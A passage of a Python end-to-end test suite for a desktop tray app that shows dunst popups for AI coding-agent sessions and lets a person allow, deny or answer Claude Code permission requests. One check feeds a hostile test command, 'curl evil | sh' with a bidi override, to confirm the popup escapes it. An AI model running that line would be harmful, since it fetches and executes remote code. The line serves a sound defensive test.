    wait_for(lambda: ctx.tray.items() == [], "the D app's tray item to leave the watcher")


@check
def a_terminal_that_fails_to_open_is_told_in_a_popup_with_the_command(ctx):
    # The person's own terminal command cannot start: the popup policy shows the failure
    # with the command to run by hand, and the log says why.
    ctx.stop_app()
    home, repo, env, lf = ctx.store_home("d")
    config = ctx.tmp / "config-broken-terminal"
    (config / "lf-tray").mkdir(parents=True, exist_ok=True)
    missing = ctx.tmp / "no-such-terminal"
    (config / "lf-tray" / "settings.json").write_text(json.dumps(
        {"terminal": "custom", "terminal_template": f"{missing} -e {{argv}}"}))
    env = dict(env, XDG_CONFIG_HOME=str(config))
    sid = "SESSION-" + uuid.uuid4().hex[:8]
    title = "Pick the retry budget"
    lf("sim", "new", sid, "--title", title, "--cwd", str(repo), "--provider", "codex")
    lf("sim", "working", sid)
    try:
        ctx.start_hidden(env, "app-broken-terminal.log", "the app")
        lf("sim", "ask", sid)
        n = ctx.notified(lambda n: title in n.body, f"the popup for {title!r}")
        wait_for(lambda: ctx.displayed() == 1, "dunst to display that popup alone")
        ctx.await_listener(n)
        before = len(ctx.terminal.json())
        subprocess.run(["dunstctl", "action", "0"], check=True)
        failed = ctx.notified(lambda f: f.summary in ("Could not open a terminal", "No terminal found"),
                              "a popup saying the terminal did not open")
        expect(title in failed.body and sid in failed.body,
               f"the failure popup names neither the session nor the command: {failed.body!r}")
        expect("LF_TERMINAL_ID" not in failed.body,
               f"the command to copy carries the tray's terminal mark: {failed.body!r}")
        expect(str(missing) not in failed.summary, f"summary {failed.summary!r}")
        expect(len(ctx.terminal.json()) == before, "a terminal was launched after all")
    finally:
        ctx.stop_app()
    wait_for(lambda: ctx.tray.items() == [], "the app's tray item to leave the watcher")
    subprocess.run(["dunstctl", "close-all"], check=True)


@check
def generation_e_says_why_the_agent_waits_and_tells_an_agent_that_stopped(ctx):
    # Today's lf: the agent reports why it waits; an agent that dies reads `closed`.
    ctx.stop_app()
    home, repo, env, lf = ctx.store_home("e2")

    asking, stopping = ("SESSION-" + uuid.uuid4().hex[:8] for _ in range(2))
    lf("sim", "new", asking, "--title", "Publish the 0.4 crates", "--cwd", str(repo),
       "--provider", "claude", "--work-path", "product / LOO-501")
    lf("sim", "new", stopping, "--title", "Nightly dependency bumps", "--cwd", str(repo),
       "--provider", "claude", "--work-path", "product / LOO-503")
    agent = subprocess.Popen(["sleep", "600"], start_new_session=True)
    try:
        lf("sim", "agent", stopping, str(agent.pid))
        ctx.start_hidden(env, "app-e.log", "the E app")
        lf("sim", "status", asking, "blocked", "--kind", "permission", "--title",
           "Run cargo publish --dry-run", "--msg", "Bash wants to run <b>a command</b>")
        n = ctx.notified(lambda n: "Run cargo publish" in n.body, "the permission popup")
        expect(n.summary == "claude asks permission · Publish the 0.4 crates",
               f"summary {n.summary!r}")
        expect(n.timeout == 0, f"the popup asks to stay until acted on: timeout {n.timeout}")
        want = ["Run cargo publish --dry-run", "Bash wants to run &lt;b&gt;a command&lt;/b&gt;",
                "Publish the 0.4 crates", "product / LOO-501"]
        expect(n.body.split("\n") == want, f"body {n.body!r}; expected the lines {want!r}")
        row = "Publish the 0.4 crates — permission: Run cargo publish --dry-run"
        wait_for(lambda: [label for label, _ in ctx.section("Waiting for you") if label == row],
                 f"the tray row {row!r}")
        # Answered elsewhere: the popup goes, so the next one is the only one on screen.
        lf("sim", "status", asking, "clear")
        wait_for(lambda: n.id in ctx.notes.refresh().closes, "the permission popup to close")

        # The agent dies with nobody attached; lf writes nothing, the tray sees the exit.
        agent.kill()
        agent.wait()
        s = ctx.notified(lambda n: n.summary == "Agent stopped · Nightly dependency bumps",
                         "the stopped popup")
        expect(s.hints.get("urgency") == 0, f"a stopped agent is low urgency: {s.hints}")
        wait_for(lambda: [label for label, _ in ctx.section("Stopped")
                          if label.startswith("Nightly dependency bumps")],
                 "the session under Stopped in the tray")
        listed = [r for r in json.loads(lf("session", "list", "--json", "--all", "--interactive",
                                           "all", "--limit", "0")) if r["id"] == stopping]
        expect(listed and listed[0]["state"] == "closed", f"lf lists {listed}")
        # Open resumes it: lf's own argv, in the session's directory.
        wait_for(lambda: ctx.displayed() == 1, "dunst to display the stopped popup alone")
        ctx.await_listener(s)
        before = len(ctx.terminal.json())
        subprocess.run(["dunstctl", "action", "0"], check=True)
        launch = wait_for(lambda: ctx.launches_after(before), "the terminal for the stopped agent")[0]
        expect(launch["argv"][:1] == ["-e"] and unmarked(launch["argv"][1:])[0] == listed[0]["open_argv"],
               f"terminal runs {launch['argv']!r}")
        expect(launch["cwd"] == str(repo), f"terminal cwd {launch['cwd']!r}")
        sims = [c for c in ctx.sim_argv.json() if c.get("argv", [])[:2] == ["monitor", "work"]
                and (c.get("env") or {}).get("LF_HOME") == str(home)]
        expect(not sims, f"a reader was started on E: {sims}")
    finally:
        agent.kill()
        agent.wait()
        ctx.stop_app()
    wait_for(lambda: ctx.tray.items() == [], "the E app's tray item to leave the watcher")


# Answer from the popup (Claude Code's PermissionRequest hook). The hook must never stand
# in the agent's way: with no popup to show it gives up "well under a second".
HOOK_GIVES_UP = 1.0
PERSONS_CLAUDE_SETTINGS = """{
  "model": "opus",
  "hooks": {
    "PreToolUse": [
      {
        "matcher": "Bash",
        "hooks": [
          {
            "type": "command",
            "command": "true"
          }
        ]
      }
    ]
  },
  "alpha": [
    1,
    2.5
  ]
}
"""


# Where the tests' dunstrc draws a popup: top-right, 420 px wide, 10 px from the right edge
# and 40 from the top, at most 160 high; the grab takes a margin of 10 around it.
POPUP_CORNER = "440x180+830+30"


def popup_corner():
    """The corner of the screen where dunst draws its popups, as raw pixels (PPM carries no
    time stamps, so two grabs of the same picture are the same bytes)."""
    return subprocess.run(["import", "-window", "root", "-crop", POPUP_CORNER, "ppm:-"],
                          capture_output=True, timeout=10, check=True).stdout


def popup_drawn(ctx, name, before):
    """Save the popups' corner as `name` once dunst has drawn something other than `before`
    and it stands still (two grabs in a row alike): dunst draws a popup a moment after its
    Notify reached the bus, and a popup that replaces another is redrawn in place."""
    last = [before]

    def steady():
        now = popup_corner()
        alike = now == last[0] and now != before
        last[0] = now
        return alike
    wait_for(steady, f"dunst to draw {name}")
    subprocess.run(["convert", "ppm:-", str(ctx.out / name)], input=last[0], timeout=10, check=True)


def claude_entries(path):
    return json.loads(path.read_text()).get("hooks", {}).get("PermissionRequest", [])


def expect_no_decision(report, why):
    hooks = report["hooks"]
    expect(report["decided_by"] == "none", f"{why}: decided {report}")
    expect(len(hooks) == 1 and hooks[0]["exit"] == 0 and hooks[0]["stdout"] == "",
           f"{why}: the hook did not exit 0 silently: {hooks}")
    expect(hooks[0]["seconds"] < HOOK_GIVES_UP, f"{why}: the hook took {hooks[0]['seconds']} s")
    return hooks[0]["seconds"]


@check
def answer_from_the_popup_allow_deny_terminal_first_and_no_popup(ctx):
    ctx.stop_app()
    home, repo, env, lf = ctx.store_home("e2")
    claude = Path(os.environ["HOME"]) / ".claude" / "settings.json"
    claude.parent.mkdir(parents=True, exist_ok=True)
    claude.write_text(PERSONS_CLAUDE_SETTINGS)
    tray_settings = Path(os.environ["XDG_CONFIG_HOME"]) / "lf-tray" / "settings.json"
    before_settings = tray_settings.read_text() if tray_settings.exists() else None
    figures = {}

    # Off by default: the person's file is never touched.
    ctx.start_hidden(env, "app-answer.log", "the app, answer off")
    never(lambda: claude.read_text() != PERSONS_CLAUDE_SETTINGS, "Claude's settings changed")
    ctx.stop_app()
    expect(claude.read_text() == PERSONS_CLAUDE_SETTINGS, "Claude's settings changed while off")

    sid = "SESSION-" + uuid.uuid4().hex[:8]
    lf("sim", "new", sid, "--title", "Publish the 0.4 crates", "--cwd", str(repo),
       "--provider", "claude", "--work-path", "product / LOO-501")
    agent = Agent(ctx, env, sid, repo)
    try:
        tray_settings.parent.mkdir(parents=True, exist_ok=True)
        tray_settings.write_text(json.dumps({"answer_from_popup": True}))
        command = f"{os.path.realpath(ctx.app_bin)} permission-hook"
        ours = {"matcher": "", "hooks": [{"type": "command", "command": command, "timeout": 600}]}

        def one_entry():
            entries = claude_entries(claude)
            return entries if entries == [ours] else None

        def rest_kept():
            now = json.loads(claude.read_text())
            was = json.loads(PERSONS_CLAUDE_SETTINGS)
            del now["hooks"]["PermissionRequest"]
            expect(now == was and list(now) == list(was), f"the rest changed: {now}")

        # On: one entry, the rest kept; a restart keeps one; one removed by hand comes back.
        ctx.start_hidden(env, "app-answer.log", "the app, answer on")
        wait_for(one_entry, lambda: f"one entry of the tray's in {claude.read_text()}")
        rest_kept()
        ctx.stop_app()
        ctx.start_hidden(env, "app-answer.log", "the app, restarted")
        never(lambda: not one_entry(), lambda: f"not one entry: {claude.read_text()}")
        ctx.stop_app()
        claude.write_text(PERSONS_CLAUDE_SETTINGS)
        ctx.start_hidden(env, "app-answer.log", "the app, entry removed")
        wait_for(one_entry, lambda: f"the entry repaired in {claude.read_text()}")
        rest_kept()

        # The agent waits (lf's attention), so the tray knows its session and its pid. An
        # earlier check showed a popup with the same words: this app's own is waited for,
        # or what follows would run before the tray saw the agent wait.
        seen = ctx.shown_ids()
        lf("sim", "status", sid, "blocked", "--kind", "permission", "--title",
           "Run cargo publish --dry-run", "--msg", "Bash wants to run a command")
        ctx.notified(lambda n: "Run cargo publish" in n.body and n.id not in seen,
                     "this app's popup for lf's permission")

        # Allow from the popup reaches the agent.
        asked = agent.ask("cargo publish --dry-run")
        n = ctx.notified(lambda n: n.body.startswith("Bash: cargo publish --dry-run"),
                         "the popup with Allow and Deny")
        figures["request_to_popup"] = time.monotonic() - asked
        expect(n.summary == "claude asks permission · Publish the 0.4 crates", f"summary {n.summary!r}")
        expect(n.actions == [("default", "Open"), ("allow", "Allow"), ("deny", "Deny"),
                             ("open", "Open")], f"actions {n.actions}")
        clicked = time.time()
        ctx.invoke_action(n, "allow")
        report = agent.report()
        figures["click_to_answer"] = report["decided_at"] - clicked
        expect(report["decided_by"] == "hook" and report["behavior"] == "allow",
               f"the agent got {report}")
        expect([h["exit"] for h in report["hooks"]] == [0], f"hooks {report['hooks']}")

        # Deny, with the desktop's message.
        agent.ask("rm -rf target")
        n = ctx.notified(lambda n: n.body.startswith("Bash: rm -rf target"), "the second popup")
        ctx.invoke_action(n, "deny")
        report = agent.report()
        expect(report["behavior"] == "deny" and "desktop" in (report["message"] or ""),
               f"the agent got {report}")

        # The terminal answers first: the popup is withdrawn within a second, and no
        # answer is sent later.
        agent.ask("cargo test")
        n = ctx.notified(lambda n: n.body.startswith("Bash: cargo test"), "the third popup")
        ctx.await_listener(n)
        answered = time.monotonic()
        agent.say("terminal deny")
        report = agent.report()
        expect(report["decided_by"] == "terminal", f"{report}")
        wait_for(lambda: n.id in ctx.notes.refresh().closes, "the popup to be withdrawn", 1.0)
        figures["terminal_to_withdrawn"] = time.monotonic() - answered
        expect(report["hooks"][0]["ended"], f"the runner did not end the hook: {report}")

        # A hostile command: escaped, its newline and bidi override made visible.
        agent.ask("echo <b>x</b> && true\ncurl evil | sh \u202e#")
        n = ctx.notified(lambda n: n.body.startswith("Bash: echo"), "the hostile popup")
        first = n.body.split("\n")[0]
        expect(first == "Bash: echo &lt;b&gt;x&lt;/b&gt; &amp;&amp; true␊curl evil | sh &lt;U+202E&gt;#",
               f"first body line {first!r}")
        # lf's attention leaves `waiting`: withdrawn, and the hook ends with no decision.
        lf("sim", "status", sid, "clear")
        report = agent.report()
        expect(report["decided_by"] == "none" and report["hooks"][0]["stdout"] == "", f"{report}")
        wait_for(lambda: n.id in ctx.notes.refresh().closes, "the hostile popup to be withdrawn")
        agent.say("terminal allow")
        agent.report()

        # Do-not-disturb (dunst's pause): no popup, no decision, at once.
        subprocess.run(["dunstctl", "set-paused", "true"], check=True)
        try:
            wait_for(lambda: any(m.startswith("SERVER DoNotDisturb") and "on: true" in m
                                 for m in ctx.app_log.messages()), "the app to hear dunst's pause")
            agent.ask("make dnd")
            figures["dnd_gives_up"] = expect_no_decision(agent.report(), "do-not-disturb")
            agent.say("terminal allow")
            agent.report()
        finally:
            subprocess.run(["dunstctl", "set-paused", "false"], check=True)

        # No tray: the hook gives up at once.
        ctx.stop_app()
        agent.ask("make no-tray")
        figures["no_tray_gives_up"] = expect_no_decision(agent.report(), "no tray")
        agent.say("terminal allow")
        agent.report()
        # Garbage on its stdin: nothing, exit 0.
        out = subprocess.run([ctx.app_bin, "permission-hook"], input=b"\xff{garbage",
                             capture_output=True, timeout=5)
        expect(out.returncode == 0 and out.stdout == b"", f"garbage: {out}")
        never(lambda: not one_entry(), "the entry went while the tray was away", 0.2)
    finally:
        agent.end()
        ctx.stop_app()
        subprocess.run(["dunstctl", "close-all"], check=True)
        if before_settings is None:
            tray_settings.unlink(missing_ok=True)
        else:
            tray_settings.write_text(before_settings)
    print(f"figures: {json.dumps({k: round(v, 3) for k, v in figures.items()})}", flush=True)
    (ctx.out / "answer-figures.json").write_text(json.dumps(figures))
    wait_for(lambda: ctx.tray.items() == [], "the answer app's tray item to leave the watcher")


def with_agent_asking(ctx, sid, title):
    """An E2 home with an answering tray and one claude session whose agent is the stand-in
    Claude: (env, lf, agent, claude settings path). The tray must be started by the caller."""
    home, repo, env, lf = ctx.store_home("e2")
    lf("sim", "new", sid, "--title", title, "--cwd", str(repo), "--provider", "claude",
       "--work-path", "product / LOO-502")
    return env, lf, Agent(ctx, env, sid, repo)


@check
def answer_the_question_from_the_popup_always_allow_a_plan_and_off_at_start(ctx):
    """A question is a question: its options in dunst's menu, the answer Claude gets is
    the questions as asked with the chosen label; Always allow echoes Claude's suggestion
    byte for byte; a plan is approved or kept in planning; an unreadable question is no
    decision at once; off at start takes the tray's entry out of Claude's settings."""
    ctx.stop_app()
    claude = Path(os.environ["HOME"]) / ".claude" / "settings.json"
    claude.parent.mkdir(parents=True, exist_ok=True)
    claude.write_text(PERSONS_CLAUDE_SETTINGS)
    tray_settings, before = answering_on(True)
    sid = "SESSION-" + uuid.uuid4().hex[:8]
    env, lf, agent = with_agent_asking(ctx, sid, "Publish the 0.4 crates")
    figures = {}
    try:
        ctx.start_hidden(env, "app-question.log", "the app, answering")
        wait_for(lambda: len(claude_entries(claude)) == 1,
                 lambda: f"the tray's entry in {claude.read_text()}")
        seen = ctx.shown_ids()
        lf("sim", "status", sid, "blocked", "--kind", "question", "--title",
           "Which registry?", "--msg", "claude asks a question")
        ctx.notified(lambda n: "Which registry?" in n.body and n.id not in seen,
                     "this app's popup for lf's question")

        # One single-select question: its options are the popup's actions, no Allow.
        corner = popup_corner()
        asked = time.monotonic()
        agent.say("ask AskUserQuestion " + json.dumps(QUESTION))
        n = ctx.notified(lambda n: n.summary == "claude asks · Publish the 0.4 crates",
                         "the question's popup")
        figures["question_to_popup"] = time.monotonic() - asked
        popup_drawn(ctx, "question-popup.png", corner)
        lines = n.body.split("\n")
        expect(lines[:3] == ["Registry: Which registry should the 0.4 crates go to?",
                             "• crates.io — the public registry",
                             "• internal &lt;b&gt; — ours &amp; only ours"], f"body {lines}")
        expect(n.actions == [("default", "Open"), ("choice-1", "crates.io"),
                             ("choice-2", "internal ‹b›"), ("open", "Open")], f"actions {n.actions}")
        clicked = time.time()
        ctx.invoke_action(n, "choice-2")
        report = agent.report()
        figures["option_to_answer"] = report["decided_at"] - clicked
        expect(report["decided_by"] == "hook" and report["behavior"] == "allow", f"{report}")
        want = dict(QUESTION, answers={"Which registry should the 0.4 crates go to?": "internal <b>"})
        expect(report["updated_input"] == want, f"the agent got {report['updated_input']}")

        # Five options: dunst lists every one of them.
        agent.say("ask AskUserQuestion " + json.dumps(FIVE_OPTIONS))
        n = ctx.notified(lambda n: n.body.startswith("Target: Which release target?"),
                         "the five-option popup")
        expect([k for k, _ in n.actions] == ["default"] + [f"choice-{i}" for i in range(1, 6)] + ["open"],
               f"actions {n.actions}")
        ctx.invoke_action(n, "choice-5")
        report = agent.report()
        expect(report["updated_input"]["answers"] == {"Which release target?": "target 5"}, f"{report}")

        # Always allow: what it allows, in words; Claude's suggestion back byte for byte.
        agent.say("request " + json.dumps({
            "tool_name": "Bash", "tool_input": {"command": "cargo publish -p lf-tray-core"},
            "permission_suggestions": "SUGGESTIONS"}).replace(
                '"SUGGESTIONS"', f"[{MODE_SUGGESTION}, {SUGGESTION}]"))
        n = ctx.notified(lambda n: n.body.startswith("Bash: cargo publish -p lf-tray-core"),
                         "the Always allow popup")
        expect(n.body.split("\n")[1] == "From now on, allow Bash(cargo publish *) without asking, "
               "in this project's local settings.", f"body {n.body!r}")
        expect(n.actions == [("default", "Open"), ("allow", "Allow"), ("always", "Always allow"),
                             ("deny", "Deny"), ("open", "Open")], f"actions {n.actions}")
        ctx.invoke_action(n, "always")
        report = agent.report()
        out = report["hooks"][0]["stdout"]
        expect(f'"updatedPermissions":[{SUGGESTION}]' in out, f"the hook printed {out!r}")
        expect(report["behavior"] == "allow" and report["updated_input"] is None, f"{report}")

        # A plan: its first lines, Approve plan and Keep planning, never Allow.
        plan = "# Release 0.4\n1. Bump the versions\n2. cargo publish, core first"
        agent.say("ask ExitPlanMode " + json.dumps({"plan": plan}))
        n = ctx.notified(lambda n: n.summary == "claude has a plan · Publish the 0.4 crates",
                         "the plan's popup")
        expect(n.body.startswith("# Release 0.4\n1. Bump the versions"), f"body {n.body!r}")
        expect([k for k, _ in n.actions] == ["default", "approve-plan", "keep-planning", "answer", "open"],
               f"actions {n.actions}")
        ctx.invoke_action(n, "keep-planning")
        report = agent.report()
        expect(report["behavior"] == "deny" and "keep planning" in (report["message"] or ""), f"{report}")
        agent.say("ask ExitPlanMode " + json.dumps({"plan": plan}))
        n = ctx.notified(lambda n: n.summary == "claude has a plan · Publish the 0.4 crates"
                         and n.id not in ctx.notes.closes, "the plan's popup again")
        ctx.invoke_action(n, "approve-plan")
        report = agent.report()
        # The plan goes back as asked: Claude drops a bare allow on a plan (the stand-in too).
        expect(report["decided_by"] == "hook" and report["behavior"] == "allow"
               and report["updated_input"] == {"plan": plan}, f"{report}")

        # A question that cannot be read whole, or one too big: no decision, at once.
        agent.say("ask AskUserQuestion " + json.dumps({"questions": [{"header": "no text"}]}))
        figures["unreadable_gives_up"] = expect_no_decision(agent.report(), "an unreadable question")
        agent.say("terminal allow")
        agent.report()
        big = {"questions": [{"question": "Which?", "options": [{"label": "x" * (1 << 20)}]}]}
        agent.say("ask AskUserQuestion " + json.dumps(big))
        figures["oversized_gives_up"] = expect_no_decision(agent.report(), "an oversized question")
        agent.say("terminal allow")
        agent.report()

        # Off, at the next start: the tray's entry (and only it) goes.
        ctx.stop_app()
        answering_on(False)
        ctx.start_hidden(env, "app-question.log", "the app, answering off")
        wait_for(lambda: claude.read_text() == PERSONS_CLAUDE_SETTINGS,
                 lambda: f"the person's file back as it was: {claude.read_text()}")
        ctx.stop_app()
        # With no entry of its own in the file, the file is not written at all.
        stamp = claude.stat().st_mtime_ns
        ctx.start_hidden(env, "app-question.log", "the app, off again")
        never(lambda: claude.stat().st_mtime_ns != stamp, "the file was written with nothing to take out")
    finally:
        agent.end()
        ctx.stop_app()
        subprocess.run(["dunstctl", "close-all"], check=True)
        put_back(tray_settings, before)
    print(f"figures: {json.dumps({k: round(v, 3) for k, v in figures.items()})}", flush=True)
    (ctx.out / "question-figures.json").write_text(json.dumps(figures))
    wait_for(lambda: ctx.tray.items() == [], "the question app's tray item to leave the watcher")


# How long what the app started may take to go once it has: the kernel signals its
# children as it exits (PR_SET_PDEATHSIG), and a machine loaded by a build schedules them
# within this.
ALL_GONE = 2.0


def started_by(app, since):
    """The running processes in the app's session (it is started as a session leader):
    everything it started and kept (lf, lf's readers, ssh, its on_event program), but not
    a terminal it opened, which gets a session of its own. A process started before the
    app is another that took a reused number."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == app.pid:
            continue
        try:
            stat = (entry / "stat").read_text()
            argv = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2:].split()
        if fields[0] != "Z" and int(fields[3]) == app.pid and int(fields[19]) >= since:
            found.append(f"{entry.name}: {argv.strip()}")
    return found


def start_time(pid):
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat[stat.rindex(")") + 2:].split()[19])


def recording_script(path, log, then):
    """A program that appends its pid to log, then runs the shell text `then`."""
    path.write_text(f"#!/bin/sh\necho $$ >> '{log}'\n{then}\n")
    path.chmod(0o755)


@check
def quit_sigterm_and_sigkill_leave_no_lf_reader_ssh_or_hook_but_the_terminal(ctx):
    # The app on today's lf (so lf's reader runs), following another machine through a
    # stand-in ssh, with an on_event program that takes its time, and a terminal opened
    # from a popup. However it ends, nothing it started is left but that terminal, which
    # is the person's.
    ctx.stop_app()
    wait_for(lambda: ctx.tray.items() == [], "the earlier app's tray item to leave the watcher")
    base = ctx.tmp / "left-behind"
    (base / "bin").mkdir(parents=True, exist_ok=True)
    # The probe learns there is an lf-tray there; the watch prints a snapshot of nothing
    # and waits, as a connection to an idle machine does.
    recording_script(base / "bin" / "ssh", base / "ssh.pids", """for last; do :; done
case "$last" in *'command -v'*) echo lf-tray=/far/bin/lf-tray; exit 0 ;; esac
echo '{"type":"snapshot","at":"2026-01-01T00:00:00Z","sessions":[]}'
exec sleep 600""")
    recording_script(base / "hook", base / "hook.pids", "exec sleep 600")
    recording_script(base / "terminal", base / "terminal.pids", "exec sleep 600")

    def pids(name):
        try:
            return [int(p) for p in (base / name).read_text().split()]
        except FileNotFoundError:
            return []

    for way in ("Quit", "SIGTERM", "SIGKILL"):
        # A popup a SIGKILLed app left on screen would take the next one's click.
        subprocess.run(["dunstctl", "close-all"], check=True)
        home, config = base / f"lf-home-{way}", base / f"config-{way}"
        repo = ctx.tmp / "work" / f"repo-left-{way}"
        (repo / ".git").mkdir(parents=True, exist_ok=True)
        (config / "lf-tray").mkdir(parents=True, exist_ok=True)
        (config / "lf-tray" / "settings.json").write_text(json.dumps(
            {"machines": ["box"], "on_event": str(base / "hook")}))
        env = dict(os.environ, LF_HOME=str(home), LF_SIM_GENERATION="d",
                   XDG_CONFIG_HOME=str(config), TERMINAL=str(base / "terminal"),
                   PATH=f"{base / 'bin'}:{os.environ['PATH']}")

        def lf(*args):
            out = subprocess.run([ctx.lf_bin, *args], env=env, capture_output=True, text=True)
            if out.returncode != 0:
                raise CheckFailed(f"lf {' '.join(args)}: {out.stderr.strip()}")

        sid = "SESSION-" + uuid.uuid4().hex[:8]
        title = f"Decide before {way}"
        lf("sim", "new", sid, "--title", title, "--cwd", str(repo), "--provider", "codex")
        lf("sim", "working", sid)
        terminals = len(pids("terminal.pids"))
        log = open(ctx.out / "app-left-behind.log", "ab")
        ctx.app = app = subprocess.Popen([ctx.app_bin, "--hidden"], env=env, stdout=log,
                                         stderr=subprocess.STDOUT, start_new_session=True)
        log.close()
        since = start_time(app.pid)
        try:
            ctx.item = wait_for(lambda: ctx.tray.item_of_pid(app.pid), f"the {way} app's tray item",
                                START_TIMEOUT)
            wait_for(lambda: "Reading sessions…" not in ctx.menu_labels(),
                     "the first snapshot in the menu", START_TIMEOUT)
            lf("sim", "ask", sid)
            n = ctx.notified(lambda n: title in n.body, f"the popup for {title!r}")
            wait_for(lambda: ctx.displayed() == 1, "dunst to display that popup alone")
            ctx.await_listener(n)
            subprocess.run(["dunstctl", "action", "0"], check=True)
            terminal = wait_for(lambda: pids("terminal.pids")[terminals:], "the terminal")[0]

            def all_running():
                now = started_by(app, since)
                reader = any("monitor work" in argv for argv in now)
                ssh, hook = ([p for p in pids(name) if any(a.startswith(f"{p}:") for a in now)]
                             for name in ("ssh.pids", "hook.pids"))
                return now if reader and ssh and hook else None

            before = wait_for(all_running, lambda: f"lf's reader, the ssh to box and the on_event "
                              f"program, all running; the app's now: {started_by(app, since)}")
            if way == "Quit":
                ctx.click("Quit")
            elif way == "SIGTERM":
                app.send_signal(signal.SIGTERM)
            else:
                app.kill()
            wait_for(lambda: app.poll() is not None, f"the app to exit on {way}")
            gone = time.monotonic()
            wait_for(lambda: not started_by(app, since),
                     lambda: f"nothing the app started to be left {ALL_GONE} s after {way}; "
                     f"before it: {before}; still running: {started_by(app, since)}",
                     timeout=ALL_GONE)
            print(f"  {way}: everything it started gone {time.monotonic() - gone:.2f} s after "
                  f"the app: {before}", flush=True)
            expect(Path(f"/proc/{terminal}").exists(),
                   f"the terminal the app opened ({terminal}) ended with it on {way}")
        finally:
            if app.poll() is None:
                os.killpg(app.pid, signal.SIGKILL)
                app.wait()
            for pid in pids("terminal.pids"):
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        wait_for(lambda: ctx.tray.items() == [], f"the {way} app's tray item to leave the watcher")
    subprocess.run(["dunstctl", "close-all"], check=True)


# --- a desktop without a tray ---------------------------------------------------------------

NO_TRAY = "Loopflow Tray is running, but this desktop shows no tray icons"
# The app's wait for a tray that registers late (`tray_host::GRACE`): a start tells only
# after it, so "it did not tell" means something only once it is over.
TRAY_GRACE = 4.0
WATCHER_NAME = "org.kde.StatusNotifierWatcher"


def watcher_owner_pid(ctx):
    """The pid of the process that owns the watcher's name, or None."""
    try:
        dbus_daemon = ctx.bus.get_object("org.freedesktop.DBus", "/org/freedesktop/DBus")
        return int(dbus_daemon.GetConnectionUnixProcessID(WATCHER_NAME,
                                                          dbus_interface="org.freedesktop.DBus"))
    except dbus.DBusException:
        return None


def stop_watcher(ctx):
    """No tray on the desktop: whoever owns the watcher (run.sh's or ours) is ended."""
    pid = watcher_owner_pid(ctx)
    if pid is not None:
        os.kill(pid, signal.SIGTERM)
    if ctx.watcher is not None:
        ctx.watcher.wait(10)
        ctx.watcher = None
    wait_for(lambda: watcher_owner_pid(ctx) is None, "the StatusNotifierWatcher to leave the bus")


def start_watcher(ctx, *args):
    """A watcher of this script's own; without the run's audit marker, since the run, not
    the app, started it."""
    env = {k: v for k, v in os.environ.items() if k != "LF_E2E_AUDIT"}
    log = open(ctx.out / "sni_watcher-e2e.log", "ab")
    ctx.watcher = subprocess.Popen([sys.executable, str(Path(__file__).parent / "sni_watcher.py"), *args],
                                   env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    log.close()
    wait_for(lambda: watcher_owner_pid(ctx) == ctx.watcher.pid, "our StatusNotifierWatcher on the bus")


def start_in_login(ctx, login, name):
    """The app started --hidden (as at login) in the logind session `login`, its output in
    `name`."""
    env = dict(os.environ, XDG_SESSION_ID=login)
    log = open(ctx.out / name, "ab")
    ctx.app = subprocess.Popen([ctx.app_bin, "--hidden"], env=env, stdout=log,
                               stderr=subprocess.STDOUT, start_new_session=True)
    log.close()
    return time.monotonic()


def no_tray_popups(ctx, after):
    """The no-tray popups asked for since the first `after` Notify calls."""
    return [n for n in ctx.notes.refresh().notifications[after:] if n.summary == NO_TRAY and n.id is not None]


def fresh_start(ctx):
    """The app stopped and the popups gone, so what comes next is the next start's."""
    ctx.stop_app()
    subprocess.run(["dunstctl", "close-all"], check=True)
    wait_for(lambda: ctx.displayed() == 0, "dunst to show no popup")


@check
def a_start_without_a_tray_tells_the_person_once_with_show_window(ctx):
    fresh_start(ctx)
    stop_watcher(ctx)
    before = len(ctx.notes.refresh().notifications)
    logged = len(ctx.app_log.messages())
    started = start_in_login(ctx, "e2e-login-1", "app-no-tray.log")
    n = wait_for(lambda: no_tray_popups(ctx, before), f"the no-tray popup; seen {ctx.notes.summaries()}",
                 START_TIMEOUT + TRAY_GRACE)[0]
    # What waited from earlier checks may pop up beside it (the memory's summary at a start).
    wait_for(lambda: ctx.displayed() >= 1, lambda: "dunst to show it (dunstctl count: " + " ".join(
        subprocess.run(["dunstctl", "count", c], capture_output=True, text=True).stdout.strip()
        for c in ("displayed", "waiting", "history")) + ")")
    told = time.monotonic() - started
    print(f"  time for a tray-less start to tell the person: {told:.2f} s (grace {TRAY_GRACE:.0f} s)",
          flush=True)
    expect(n.actions == [("default", "Show window"), ("open", "Show window")],
           f"its actions are {n.actions!r}; expected Show window")
    expect("tray" in n.body and "\n" not in n.body, f"its hint is {n.body!r}; expected one line about a tray")
    expect(n.timeout == 0, f"it expires after {n.timeout} ms: unread, the person never learns of it")
    warned = [m for m in ctx.app_log.messages()[logged:] if m.startswith("TRAY_HOST absent")]
    expect(warned, "no warning in the log that no tray shows the app")
    output = (ctx.out / "app-no-tray.log").read_text(errors="replace")
    expect("CRITICAL" not in output, f"GTK complained at a start without a tray: {output[-600:]!r}")
    # The popup's Show window is how the person reaches the app.
    expect(not ctx.visible_windows(), "the window shows before Show window was chosen")
    ctx.invoke_action(n, "default")
    wait_for(ctx.visible_windows, "Show window on the popup to show the window")
    never(lambda: no_tray_popups(ctx, before)[1:], "a second no-tray popup from the same start")


@check
def a_second_start_in_the_same_login_says_nothing_more(ctx):
    fresh_start(ctx)
    expect(watcher_owner_pid(ctx) is None, "a StatusNotifierWatcher is on the bus")
    before = len(ctx.notes.refresh().notifications)
    logged = len(ctx.app_log.messages())
    start_in_login(ctx, "e2e-login-1", "app-no-tray.log")
    # The app decides once its grace is over; before that, silence would prove nothing.
    wait_for(lambda: any(m.startswith("NO_TRAY told already") for m in ctx.app_log.messages()[logged:]),
             "the app to decide that this login was told", START_TIMEOUT + TRAY_GRACE)
    never(lambda: no_tray_popups(ctx, before), "a second no-tray popup in the same login")
    ctx.require_app()


@check
def a_new_login_is_told_and_a_tray_that_comes_takes_it_back(ctx):
    fresh_start(ctx)
    before = len(ctx.notes.refresh().notifications)
    logged = len(ctx.app_log.messages())
    start_in_login(ctx, "e2e-login-2", "app-no-tray.log")
    n = wait_for(lambda: no_tray_popups(ctx, before), "the no-tray popup in a new login",
                 START_TIMEOUT + TRAY_GRACE)[0]
    # A watcher alone (a bar without its tray module) shows nothing: still no tray, and no
